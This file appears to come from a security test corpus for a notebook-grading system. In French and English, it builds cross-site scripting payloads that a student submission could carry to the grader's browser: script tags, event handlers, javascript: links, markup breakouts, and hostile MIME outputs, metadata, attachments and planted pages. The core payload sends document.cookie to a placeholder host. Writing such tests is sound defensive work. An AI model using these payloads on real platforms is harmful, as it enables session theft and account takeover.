"""What a learner writes, meant for the browser of the instructor who grades, or of whoever opens the feedback."""

import json
from pathlib import Path

from attack_corpus.model import RIGHT, Attack, Notebook, fraud, named

RUN = "window.__xss=(window.__xss||0)+1;new Image().src='http://canari.invalid/'+document.cookie"
TAGS = f"""
<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>
</svg><iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="javascript:{RUN}"></iframe>
<object data="javascript:{RUN}"></object><embed src="data:text/html,<script>{RUN}</script>">
<body onload="{RUN}"><details open ontoggle="{RUN}">a</details><video><source onerror="{RUN}"></video>
<input autofocus onfocus="{RUN}"><style>@import 'http://canari.invalid/s';*{{background:url(http://canari.invalid/b)}}
</style><link rel=stylesheet href="http://canari.invalid/c"><base href="http://canari.invalid/">
<meta http-equiv=refresh content="0;url=http://canari.invalid/m"><form action="http://canari.invalid/f"><button>a</form>
<a href="javascript:{RUN}">lien</a><a href=" java&#10;script:{RUN}">lien</a><math href="javascript:{RUN}">a</math>
<svg><a xlink:href="javascript:{RUN}"><text>a</text></a><use href="data:image/svg+xml,<svg onload={RUN}>"/></svg>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><mglyph><style><!--</style><img src onerror={RUN}>
<img src="http://canari.invalid/i"><audio src="http://canari.invalid/a" autoplay></audio><img name=getElementById>
"""
MARKDOWN = f"""# Avis
{TAGS}
[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) [c](data:text/html,<script>{RUN}</script>) <javascript:{RUN}>
![x](x" onerror="{RUN}) ![y](http://canari.invalid/y) `<script>{RUN}</script>`
$\\href{{javascript:{RUN}}}{{a}}$ $$\\unicode{{<img src=x onerror={RUN}>}} \\text{{</span><script>{RUN}</script>}}$$
![z](attachment:z.svg) </textarea></script><script>{RUN}</script>
"""
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>" \
      f"<foreignObject><iframe src='javascript:{RUN}'/></foreignObject></svg>"  # fmt: skip
DATA = {
    "text/html": TAGS, "image/svg+xml": SVG, "application/javascript": RUN, "text/markdown": MARKDOWN,
    "text/latex": f"$$\\href{{javascript:{RUN}}}{{a}}$$<script>{RUN}</script>",
    "image/png": f'x"><script>{RUN}</script><img src="x" onerror="{RUN}', "image/jpeg": f'" onerror="{RUN}" x="',
    "application/pdf": f'"><script>{RUN}</script>', "text/plain": TAGS,
    "text/vnd.mermaid": f"graph;<script>{RUN}</script>",
    "application/vnd.jupyter.widget-view+json": {"model_id": f'</script><script>{RUN}</script>', "version_major": 2},
    "application/vnd.jupyter.widget-state+json": {"state": f'</script><script>{RUN}</script>'},
    "application/geo+json": {"type": TAGS}, "application/vnd.plotly.v1+json": {"data": TAGS}, "x/<script>": TAGS,
}  # fmt: skip
METADATA = {
    kind: {"width": f'1" onerror="{RUN}', "height": f'"><script>{RUN}</script>', "filenames": {kind: TAGS},
           "alt": f'" onerror="{RUN}', "isolated": True, "unconfined": True, "needs_background": f'x" onload="{RUN}'}
    for kind in DATA
}  # fmt: skip
DISPLAYS = f"""
import json
from IPython.display import display
donnees, reglages = json.loads({json.dumps(DATA)!r}), json.loads({json.dumps(METADATA)!r})
for genre, contenu in donnees.items():
    display({{genre: contenu}}, metadata={{genre: reglages[genre], **reglages[genre]}}, raw=True)
display(donnees, metadata=reglages, raw=True)
"""
STREAMS = f"""
import sys
piege = {TAGS!r}
print(piege, "\\x1b[31m" + piege + "\\x1b]8;;javascript:{RUN}\\x07lien\\x1b]8;;\\x07")
"""
RAISES = f"""
class Piege(Exception): pass
Piege.__name__ = Piege.__qualname__ = {TAGS!r}
def moyenne(valeurs):
    raise Piege({TAGS!r})
"""
ASSERTS = f"def moyenne(valeurs):\n    print({TAGS!r})\n    return {TAGS!r}"
SOURCE = f"# </textarea></script><script>{RUN}</script> {' '.join(TAGS.split())}\n" + RIGHT["partiel"]


def own_pages(folder: Path, course: Path) -> None:
    """Put pages and drawings beside the notebook, which the grader's page could serve."""
    (folder / "piege.html").write_text(f"<html><body><script>{RUN}</script></body></html>")
    (folder / "piege.svg").write_text(SVG)
    (folder / "piege.js").write_text(RUN)
    (folder / "piege.xhtml").write_text(f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>")


def links_to_pages(notebook: Notebook) -> None:
    named(notebook, "avis")["source"] = "[ma figure](piege.html) ![](piege.svg) <script src=piege.js></script>"


def opinion(notebook: Notebook) -> None:
    named(notebook, "avis")["source"] = MARKDOWN


def attached(notebook: Notebook) -> None:
    cell = named(notebook, "avis")
    cell["source"] = "![z](attachment:z.svg) ![y](attachment:y.png)"
    cell["attachments"] = {
        "z.svg": {"image/svg+xml": SVG},
        "y.png": {"image/png": f'x" onerror="{RUN}', "text/html": TAGS},
    }


def labels(notebook: Notebook) -> None:
    """Put payloads where pages show or copy names: title, authors, language, cell ids, tags, widgets."""
    breakout = f'"></title></script><script>{RUN}</script><img src=x onerror="{RUN}">'
    notebook["metadata"].update(
        title=breakout, authors=[{"name": breakout}], widgets={"application/vnd.jupyter.widget-state+json": {
            "state": {"x": breakout}, "version_major": 2, "version_minor": 0}},
        language_info={"name": breakout, "pygments_lexer": breakout,
                       "codemirror_mode": breakout, "file_extension": breakout},
    )  # fmt: skip
    notebook["metadata"]["kernelspec"]["display_name"] = breakout
    for cell in notebook["cells"]:
        cell["metadata"].update(tags=[breakout], name=breakout, slideshow={"slide_type": breakout}, nbsphinx=breakout)


def raw_cells(notebook: Notebook) -> None:
    for kind in ("text/html", "text/latex", "application/javascript", breakout_kind()):
        notebook["cells"].append(
            {
                "cell_type": "raw",
                "source": TAGS,
                "metadata": {"format": kind, "raw_mimetype": kind},
                "id": f"r{len(kind)}",
            }
        )
    notebook["cells"].append({"cell_type": "markdown", "source": MARKDOWN, "metadata": {}, "id": "md"})


def breakout_kind() -> str:
    return f"text/html;<script>{RUN}</script>"


def stored_outputs(notebook: Notebook) -> None:
    """Save the outputs in the notebook: grading must drop them, whatever runs."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": METADATA,
                 "data": {kind: data for kind, data in DATA.items() if isinstance(data, str)}}
            ]  # fmt: skip


def hostile_ids(notebook: Notebook) -> None:
    named(notebook, "partiel")["metadata"]["nbgrader"]["grade_id"] = f'x"><script>{RUN}</script>'


ATTACKS = (
    Attack("h2-affichages", "displays every MIME type with a script in it", {"moyenne": DISPLAYS + RIGHT["moyenne"]}),
    Attack("h3-textes", "prints tags, escapes and links for terminals", {"moyenne": STREAMS + RIGHT["moyenne"]}),
    Attack("h4-exception", "an exception whose name and text are tags", {"moyenne": RAISES}, lost=("test-moyenne",)),
    Attack("h5-message", "a value with tags in the author's own message", {"moyenne": ASSERTS}, lost=("test-moyenne",)),
    Attack("h6-source", "a source that closes tags", {"partiel": SOURCE}),
    Attack("h7-avis", "a written answer with tags, links and formulas", edit=opinion),
    Attack("h8-pieces-jointes", "a written answer with hostile attachments", edit=attached),
    Attack("h9-etiquettes", "payloads in titles, authors, languages, tags", edit=labels, may_review=True),
    Attack("ha-brutes", "raw and text cells of its own", edit=raw_cells),
    Attack("hb-sorties-gardees", "outputs kept in the submitted notebook", edit=stored_outputs),
    Attack("hd-pages", "pages of its own beside the notebook, and links to them", edit=links_to_pages, plant=own_pages),
    fraud("hc-noms", "a cell's id that closes tags", edit=hostile_ids, may_review=True),
)  # fmt: skip
